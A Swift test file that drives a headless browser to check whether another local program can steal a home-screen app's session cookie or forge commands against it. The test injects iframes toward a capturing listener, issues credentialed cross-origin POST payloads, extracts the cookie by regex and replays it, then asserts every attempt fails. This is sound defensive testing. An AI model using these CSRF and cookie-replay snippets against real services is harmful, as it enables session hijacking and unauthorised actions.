import Foundation
import HeadlessBrowser
import OwnThreads
import Testing

@testable import HomeScreen

/// What another program on this machine can do with a browser in which the home screen is open.
@Suite("Theft in a real browser", .timeLimit(.minutes(2)))
struct ThiefBrowserTests {
    @Test("fence.1: neither a frame nor a tab nor a listener of 127.0.0.1 orders or reads anything with what the browser sends it")
    func theft() async throws {
        let listener = try Listener()
        defer { listener.close() }
        try await withServedPage { page, host in
            try await onThread {
                let browser = try HeadlessBrowser(width: 1440, height: 900)
                defer { browser.close() }
                try browser.open(page.address)
                try browser.wait(for: "document.querySelector('#tiles img')?.naturalWidth > 0")
                // The key is in this origin's storage, and no longer in the address.
                #expect(try browser.value("location.href.includes('key') || location.href.includes('token')") as? Bool == false)

                // An app's page in a frame, which goes where the home screen's cookie is sent.
                listener.page = "<script>location = 'http://127.0.0.1:\(listener.port)/from-a-frame'</script>"
                _ = try browser.value(
                    """
                    for (const host of ['thief.localhost', '127.0.0.1', 'localhost']) {
                      const frame = document.createElement('iframe'); frame.src = `http://${host}:\(listener.port)/${host}`;
                      document.body.append(frame);
                    }
                    """)
                #expect(try listener.waits { $0.contains { $0.hasPrefix("GET /thief.localhost ") } })
                // Its way out is shut by the page that frames it.
                _ = try browser.value("new Promise((done) => setTimeout(done, 500))")
                #expect(!listener.heard.contains { $0.hasPrefix("GET /from-a-frame ") || $0.hasPrefix("GET /127.0.0.1 ") })
                #expect(!listener.heard.contains { $0.contains("vitrine-") })

                // A tab at the home screen's own name gets the cookie, and orders with it from there.
                let body = #"{"tile":"tile-1"}"#
                listener.page = """
                    <script>
                    fetch('http://127.0.0.1:\(page.port)/remove', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '\(body)' });
                    fetch('http://127.0.0.1:\(page.port)/remove', { method: 'POST', credentials: 'include', body: '\(body)',
                      headers: { 'Content-Type': 'application/json' } });
                    document.title = Object.keys(localStorage).length;
                    </script>
                    """
                try browser.open("http://127.0.0.1:\(listener.port)/tab")
                #expect(try listener.waits { $0.contains { $0.hasPrefix("GET /tab ") && $0.contains("vitrine-") } })
                try browser.wait(for: "document.title === '0'")
                _ = try browser.value("new Promise((done) => setTimeout(done, 300))")
            }
            let stolen = listener.heard.firstMap { $0.firstMatch(of: /(vitrine-[0-9]+=[A-Za-z0-9_-]+)/).map { String($0.1) } }
            let cookie = try #require(stolen)
            // The listener itself, with the cookie it was given.
            for path in ["/state", "/ledger.json", "/events"] {
                #expect(try await page.get(path, headers: ["Authorization": "", "Cookie": cookie]).status == 401)
            }
            let order = try await page.post("/remove", #"{"tile":"tile-1"}"#, headers: ["Authorization": "", "Cookie": cookie])
            #expect(order.status == 401)
            #expect(!host.asked.contains { $0.contains("remove") })
        }
    }
}

extension Array {
    fileprivate func firstMap<Value>(_ transform: (Element) -> Value?) -> Value? {
        for element in self { if let value = transform(element) { return value } }
        return nil
    }
}

/// A server that answers every request with one page, and keeps what it was sent.
private final class Listener: @unchecked Sendable {
    let port: Int
    private let listener: Int32
    private let lock = NSLock()
    // Both are touched only under the lock.
    private var requests: [String] = []
    private var html = ""

    init() throws {
        listener = socket(AF_INET, Int32(SOCK_STREAM.rawValue | SOCK_CLOEXEC.rawValue), 0)
        var address = sockaddr_in(), size = socklen_t(MemoryLayout<sockaddr_in>.size)
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = UInt32(0x7f00_0001).bigEndian
        let listener = listener
        let isBound = withUnsafeMutablePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                bind(listener, $0, size) == 0 && listen(listener, 16) == 0 && getsockname(listener, $0, &size) == 0
            }
        }
        guard isBound else { throw CocoaError(.fileWriteUnknown) }
        port = Int(UInt16(bigEndian: address.sin_port))
        Thread.detachNewThread { [weak self] in
            var buffer = [UInt8](repeating: 0, count: 16 << 10)
            while true {
                let end = accept(listener, nil, nil)
                guard end >= 0, let self else { return }
                let count = read(end, &buffer, buffer.count)
                if count > 0 { self.lock.withLock { self.requests.append(String(decoding: buffer[..<count], as: UTF8.self)) } }
                let body = self.page
                let answer = Array(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: \(body.utf8.count)\r\nConnection: close\r\n\r\n\(body)"
                        .utf8)
                _ = send(end, answer, answer.count, Int32(MSG_NOSIGNAL))
                Glibc.close(end)
            }
        }
    }

    var page: String {
        get { lock.withLock { html } }
        set { lock.withLock { html = newValue } }
    }

    var heard: [String] { lock.withLock { requests } }

    /// Whether it comes to hold; false after ten seconds.
    @available(*, noasync)
    func waits(_ condition: ([String]) -> Bool) throws -> Bool {
        for _ in 0..<1000 {
            if condition(heard) { return true }
            usleep(10_000)
        }
        return false
    }

    func close() { shutdown(listener, Int32(SHUT_RDWR)) }
}
